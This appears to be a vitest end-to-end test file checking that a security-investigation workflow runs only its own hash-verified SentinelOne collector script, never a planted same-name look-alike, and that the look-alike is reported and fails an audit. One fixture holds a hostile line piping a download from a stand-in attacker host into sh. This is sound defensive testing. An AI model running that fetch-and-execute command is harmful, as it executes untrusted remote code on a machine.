/**
 * End-to-end: only our exact collector runs. Same-name look-alikes are planted in the S1 simulator's library with
 * each signature shape S1 may report (null, empty, SHA-1-shaped, base64 of their own content); the synthesized
 * workflow runs against it, and the simulator's request log must show only our script executed. The look-alike is
 * reported in the execution's outcome and case.json, and the audit fails naming its id and both hashes.
 */
import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type AuditDeps, runAudit } from '../../lambdas/audit-permissions/core';
import { type CollectorScript, loadCollectors } from '../../lambdas/collectors';
import { staticCredential } from '../../lambdas/shared/secrets';
import { createS1Client } from '../../lambdas/shared/sentinelone';
import type { ScriptSignatureShape } from '../../local/s1-simulator';
import {
  agentResult,
  clearCollectorLibrary,
  type E2eStack,
  investigate,
  s1Requests,
  startE2eStack,
} from './helpers';

let stack: E2eStack;
let linux: CollectorScript;

beforeAll(async () => {
  // A day of trust in a proven library script: at the end-to-end time scale an investigation lasts simulated minutes.
  stack = await startE2eStack({ config: { scriptLibraryCacheSeconds: 86_400 } });
  linux = loadCollectors().find((c) => c.osType === 'linux') as CollectorScript;
});

beforeEach(async () => {
  // Each test starts with a library that holds none of our collectors (nor a cached proof of one).
  await clearCollectorLibrary(stack);
});

afterEach(async () => {
  await stack.reset();
});

afterAll(async () => {
  await stack?.close();
});

const FOREIGN = Buffer.from(
  '#!/bin/sh\n# s1cado-collector: linux-triage 1.0.0\ncurl -s http://evil.example | sh\n',
);
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/** Plants a script under our collector's exact name, with foreign content, reporting `signature` in `shape`. */
function plantLookAlike(shape: ScriptSignatureShape, content: Buffer = FOREIGN) {
  return stack.s1Sim.addScript({
    scriptName: linux.libraryName,
    scriptType: 'artifactCollection',
    osTypes: ['linux'],
    content,
    fileName: linux.fileName,
    creator: 'mallory',
    creatorId: '1111111111111111111',
    signature: shape,
  });
}

/** Runs an investigation of the Linux agent; returns it and the script ids the simulator was asked to execute. */
async function collectLinux() {
  const since = stack.s1Sim.requests.length;
  const run = await investigate(stack, {
    agentIds: [stack.tenant.agents.linux.id],
    requestedBy: 'e2e',
    reason: 'look-alike scripts',
  });
  const executed = s1Requests(stack, '/remote-scripts/execute', since).map(
    (r) => (r.body as { data: { scriptId: string } }).data.scriptId,
  );
  return { run, executed };
}

describe('a same-name look-alike in the library', () => {
  it.each(['null', 'empty', 'sha1', 'base64', 'hex'] as const)(
    'with a %s signature is never executed; our own copy runs and the outcome names the look-alike',
    async (shape) => {
      const planted = plantLookAlike(shape);
      const { run, executed } = await collectLinux();

      expect(run.failure).toBeUndefined();
      expect(run.caseRecord.status).toBe('complete');
      expect(executed.length).toBeGreaterThan(0);
      expect(executed).not.toContain(planted.id);
      const ran = stack.s1Sim.state.scripts.get(executed[0] as string);
      expect(ran?.content.equals(linux.content)).toBe(true);
      expect(new Set(executed)).toEqual(new Set([ran?.id]));
      expect(agentResult(run, stack.tenant.agents.linux.id).target?.script?.scriptId).toBe(ran?.id);

      // Reported where the workflow reports Ensure Scripts' findings: the execution output and case.json.
      const expected = {
        scriptId: planted.id,
        verdict: 'mismatch',
        sha256: sha256(FOREIGN),
        expectedSha256: linux.sha256,
        source: shape === 'hex' || shape === 'base64' ? 'signature' : 'content',
      };
      expect(run.output?.scripts[0]?.lookAlikes).toEqual([expect.objectContaining(expected)]);
      expect(run.caseRecord.scripts[0]).toMatchObject({ uploaded: true, lookAlikes: [expected] });
      // Our copy sits beside the look-alike under a fresh versioned name.
      expect(ran?.scriptName).toMatch(
        new RegExp(`^${linux.libraryName.replace(/[()]/g, '\\$&')} copy \\d{8}T\\d{6}Z$`),
      );
    },
  );

  it('whose content cannot be read is not executed either: a fresh copy is uploaded and run', async () => {
    const planted = plantLookAlike('null');
    stack.s1Sim.faults.respond(404, { match: { path: '/remote-scripts/script-content' } });
    const { run, executed } = await collectLinux();

    expect(run.caseRecord.status).toBe('complete');
    expect(executed).not.toContain(planted.id);
    const ran = stack.s1Sim.state.scripts.get(executed[0] as string);
    expect(ran?.content.equals(linux.content)).toBe(true);
    expect(ran?.scriptName.startsWith(`${linux.libraryName} copy `)).toBe(true);
    expect(run.caseRecord.scripts[0]?.lookAlikes).toEqual([
      expect.objectContaining({ scriptId: planted.id, verdict: 'unverifiable', sha256: null }),
    ]);
  });

  it('is not needed to reuse our own script when S1 reports our hash in base64 or not at all', async () => {
    for (const shape of ['base64', 'null'] as const) {
      await clearCollectorLibrary(stack);
      const ours = plantLookAlike(shape, linux.content);
      const { run, executed } = await collectLinux();
      expect(new Set(executed)).toEqual(new Set([ours.id]));
      expect(run.caseRecord.scripts[0]).toMatchObject({ scriptId: ours.id, uploaded: false });
      expect(run.caseRecord.scripts[0]?.lookAlikes).toBeUndefined();
    }
  });
});

describe('the shared library cache', () => {
  const cacheKeyOf = () => ({
    pk: `scriptlib#${linux.sha256}`,
    sk: `linux|global|${linux.libraryName}`,
  });

  it('serves a second investigation without a library lookup; the look-alike is still reported and never run', async () => {
    const planted = plantLookAlike('hex');
    const first = await collectLinux();
    expect(first.run.caseRecord.status).toBe('complete');
    const since = stack.s1Sim.requests.length;
    const second = await collectLinux();

    expect(second.run.caseRecord.status).toBe('complete');
    // No lookup and no upload: the proof recorded by the first investigation is used.
    const library = s1Requests(stack, '/remote-scripts', since).map((r) => r.method);
    expect(library).toEqual([]);
    expect(second.executed).toEqual(first.executed);
    expect(second.executed).not.toContain(planted.id);
    expect(stack.s1Sim.state.scripts.get(second.executed[0] as string)?.content.equals(linux.content)).toBe(
      true,
    );
    expect(second.run.caseRecord.scripts[0]).toMatchObject({
      uploaded: false,
      lookAlikes: [expect.objectContaining({ scriptId: planted.id, verdict: 'mismatch' })],
    });
  });

  it('ignores an entry that does not prove our hash: the library is looked up and the look-alike refused', async () => {
    const planted = plantLookAlike('hex');
    // A cached claim that the look-alike is our collector, recording the hash S1 actually reports for it.
    const { CoordinationStore } = await import('../../lambdas/shared/coordination/store');
    const { CachedScript } = await import('../../lambdas/shared/coordination/script-cache');
    const store = new CoordinationStore({ client: stack.dynamo.client, tableName: stack.coordinationTable });
    await store.putIfAbsent(
      cacheKeyOf(),
      {
        collectorSha256: linux.sha256,
        scriptId: planted.id,
        scriptName: planted.scriptName,
        provenSha256: sha256(FOREIGN),
        source: 'signature',
        verifiedAt: new Date().toISOString(),
        lookAlikes: [],
      },
      CachedScript,
      { ttlSeconds: 300 },
    );
    const since = stack.s1Sim.requests.length;
    const { run, executed } = await collectLinux();

    expect(run.caseRecord.status).toBe('complete');
    expect(s1Requests(stack, '/remote-scripts', since).some((r) => r.method === 'GET')).toBe(true);
    expect(executed).not.toContain(planted.id);
    expect(stack.s1Sim.state.scripts.get(executed[0] as string)?.content.equals(linux.content)).toBe(true);
    expect(run.caseRecord.scripts[0]?.lookAlikes).toEqual([
      expect.objectContaining({ scriptId: planted.id, verdict: 'mismatch' }),
    ]);
  });
});

describe('the audit', () => {
  function auditDeps(): AuditDeps {
    const token = stack.secrets.s1Token;
    return {
      s1: {
        client: createS1Client({
          consoleUrl: stack.s1Sim.url,
          credentials: staticCredential(token, 'ApiToken'),
          hostPolicy: { allowLoopback: true },
        }),
        token: async () => token,
      },
      collectors: () => [linux],
      warningDays: 14,
    };
  }

  it.each(['null', 'empty', 'sha1', 'base64'] as const)(
    'fails "collector scripts in the library" for a %s-signed look-alike, naming its id and both hashes',
    async (shape) => {
      const planted = plantLookAlike(shape);
      const report = await runAudit(auditDeps());
      const check = report.checks.find((c) => c.id === 's1-collector-scripts');
      expect(check?.status).toBe('fail');
      expect(check?.reason).toContain(`id ${planted.id}`);
      expect(check?.reason).toContain(sha256(FOREIGN));
      expect(check?.reason).toContain(linux.sha256);
    },
  );
});
